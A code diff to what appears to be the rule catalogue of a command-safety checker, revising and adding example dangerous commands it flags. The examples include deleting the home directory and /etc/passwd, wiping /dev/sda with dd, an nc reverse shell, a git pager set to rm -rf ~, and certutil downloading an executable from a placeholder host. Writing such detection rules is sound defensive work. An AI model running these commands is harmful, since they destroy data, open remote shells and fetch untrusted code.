@@ -81,7 +81,7 @@ CATALOGUE: dict[str, Rule] = _rules(
     (
         "code-rm-home",
         "inline interpreter code deletes your home directory (blocked)",
-        "python3 -c 'import shutil; shutil.rmtree(\"~\")'",
+        "python3 -c 'import os, shutil; shutil.rmtree(os.path.expanduser(\"~\"))'",
     ),
     (
         "code-rm-system",
@@ -96,7 +96,7 @@ CATALOGUE: dict[str, Rule] = _rules(
     (
         "code-rm-system-file",
         "inline interpreter code deletes a core system file",
-        "python3 -c 'import shutil; shutil.rmtree(\"/etc/passwd\")'",
+        "python3 -c 'import os; os.remove(\"/etc/passwd\")'",
     ),
     # --- disks, boot, system files ----------------------------------------------------------
     ("disk-write", "writes straight to a raw disk device (blocked)", "dd if=/dev/zero of=/dev/sda"),
@@ -179,7 +179,7 @@ CATALOGUE: dict[str, Rule] = _rules(
     ("shutdown", "stops or restarts the machine", "shutdown -h now"),
     ("service", "starts, restarts or changes services", "systemctl restart nginx"),
     ("service-stop", "stops or disables a service", "systemctl stop nginx"),
-    ("schedule", "schedules commands to run later", "at now + 1 minute -f job.sh"),
+    ("schedule", "schedules commands to run later (persistence)", "at now + 1 minute -f job.sh"),
     ("crontab", "changes scheduled cron jobs", "crontab -e"),
     ("crontab-remove", "deletes every cron job without asking", "crontab -r"),
     ("task-delete", "deletes scheduled tasks", "schtasks /delete /tn Backup /f", "cmd"),
@@ -252,6 +252,29 @@ CATALOGUE: dict[str, Rule] = _rules(
     ),
     ("reverse-shell", "connects a shell to the network", "nc -lvp 4444 -e /bin/bash"),
     ("nesting", "commands nested too deeply to analyse", "eval " * 10 + "ls"),
+    (
+        "config-exec",
+        "a setting or option makes a program run a command (git -c core.pager, tar --to-command, "
+        "PAGER=…): judged as code, at least critical when dangerous or unknown",
+        "git -c core.pager='rm -rf ~' log",
+    ),
+    (
+        "lolbin-exec",
+        "runs code through a Windows system binary (mshta, rundll32)",
+        "rundll32 shell32.dll,Control_RunDLL x.cpl",
+        "cmd",
+    ),
+    (
+        "lolbin-download",
+        "downloads a file with a Windows system tool (certutil, bitsadmin)",
+        "certutil -urlcache -split -f http://x.example/a.exe a.exe",
+        "cmd",
+    ),
+    (
+        "rm-unknown-root",
+        "deletes a path that climbs out of a variable's directory with .. (unknown root)",
+        'rm -rf "$TMPDIR/../.."',
+    ),
     # --- network and data ---------------------------------------------------------------------
     ("network", "talks to the network or another machine", "ssh user@server"),
     ("remote", "runs commands on remote hosts", "ansible all -m ping"),
